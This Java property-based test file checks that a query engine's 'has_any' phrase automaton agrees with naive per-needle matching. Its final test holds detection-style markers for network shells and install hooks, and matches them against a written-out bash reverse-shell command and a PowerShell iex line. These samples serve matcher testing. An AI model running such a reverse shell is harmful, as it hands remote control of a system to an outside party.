package dev.hookline.kql.expr;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.ArrayList;
import java.util.List;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.constraints.CharRange;
import net.jqwik.api.constraints.Chars;
import net.jqwik.api.constraints.Size;
import net.jqwik.api.constraints.StringLength;
import org.junit.jupiter.api.Test;

/**
 * The one-pass has_any automaton gives exactly what checking each needle with Terms.has gives (and, without
 * boundaries, what Terms.contains gives).
 */
class PhraseSetAgreesWithHasTest {
    private static boolean naive(String hay, List<String> needles, boolean ci) {
        for (String n : needles) {
            if (Terms.has(hay, n, ci, true)) {
                return true;
            }
        }
        return false;
    }

    private static List<String> prepared(List<String> needles, boolean ci) {
        List<String> out = new ArrayList<>();
        for (String n : needles) {
            out.add(ci ? Terms.foldAll(n) : n);
        }
        return out;
    }

    @Property(tries = 3000)
    void agreesOnRandomInput(
            @ForAll @StringLength(max = 40) @Chars({'a', 'b', 'A', 'B', '1', '.', ' ', '-', '/', '('}) String hay,
            @ForAll @Size(min = 1, max = 6) List<@StringLength(max = 5)
                    @Chars({'a', 'b', 'A', '1', '.', ' ', '-', '/', '('}) String> needles,
            @ForAll boolean ci) {
        List<String> p = prepared(needles, ci);
        assertEquals(naive(hay, p, ci), new PhraseSet(p, ci).hasAny(hay), hay + " has_any " + needles);
    }

    @Property(tries = 500)
    void agreesOnNonAsciiInput(@ForAll @StringLength(max = 30) @CharRange(from = 'a', to = 'ž') String hay,
            @ForAll @Size(min = 1, max = 4) List<@StringLength(min = 1, max = 3) @CharRange(from = 'a', to = 'ž') String> needles) {
        List<String> p = prepared(needles, true);
        assertEquals(naive(hay, p, true), new PhraseSet(p, true).hasAny(hay));
    }

    /** Lists totalling more than 64 chars take the DFA instead of the shift-and scan: both agree with Terms. */
    @Property(tries = 1500)
    void longListsAgreeToo(
            @ForAll @StringLength(max = 60) @Chars({'a', 'b', 'A', 'B', '1', '.', ' ', '-', '/', '('}) String hay,
            @ForAll @Size(min = 9, max = 14) List<@StringLength(min = 8, max = 12)
                    @Chars({'a', 'b', 'A', '1', '.', ' ', '-', '/'}) String> needles,
            @ForAll boolean ci, @ForAll boolean boundaries) {
        List<String> p = prepared(needles, ci);
        boolean naive = false;
        for (String n : p) {
            naive |= boundaries ? Terms.has(hay, n, ci, true) : Terms.contains(hay, n, ci, true);
        }
        // a needle from the list spliced into the hay half the time, so matches are not all rare
        assertEquals(naive, new PhraseSet(p, ci, boundaries).hasAny(hay), hay + " / " + needles);
        String spliced = hay.substring(0, hay.length() / 2) + needles.get(0) + hay.substring(hay.length() / 2);
        boolean naive2 = false;
        for (String n : p) {
            naive2 |= boundaries ? Terms.has(spliced, n, ci, true) : Terms.contains(spliced, n, ci, true);
        }
        assertEquals(naive2, new PhraseSet(p, ci, boundaries).hasAny(spliced), spliced + " / " + needles);
    }

    /** Without boundaries the automaton is `contains` over any needle (Sigma value lists merged into one scan). */
    @Property(tries = 3000)
    void withoutBoundariesAgreesWithContains(
            @ForAll @StringLength(max = 40) @Chars({'a', 'b', 'A', 'B', '1', '.', ' ', '-', '/', '('}) String hay,
            @ForAll @Size(min = 1, max = 6) List<@StringLength(min = 1, max = 5)
                    @Chars({'a', 'b', 'A', '1', '.', ' ', '-', '/', '('}) String> needles,
            @ForAll boolean ci) {
        List<String> p = prepared(needles, ci);
        boolean naive = false;
        for (String n : p) {
            naive |= Terms.contains(hay, n, ci, true);
        }
        assertEquals(naive, new PhraseSet(p, ci, false).hasAny(hay), hay + " contains any of " + needles);
    }

    @Test
    void seedMarkersFollowTermAndPhraseBoundaries() {
        PhraseSet s = new PhraseSet(prepared(List.of("/dev/tcp", "bash -i", "IEX(", "curl http", "postinstall"), true), true);
        assertTrue(s.hasAny("bash -c 'bash -i >& /dev/tcp/1.2.3.4/4444'"));
        assertTrue(s.hasAny("pwsh -c iex(New-Object X)"));
        assertFalse(s.hasAny("echo SIEX(1)"));
        assertTrue(s.hasAny("sh -c node scripts/postinstall.js"));
        assertFalse(s.hasAny("sh -c node scripts/postinstaller.js"));
        assertFalse(s.hasAny("curl -s http://x"));
        assertTrue(s.hasAny("CURL HTTP://X"));
    }
}
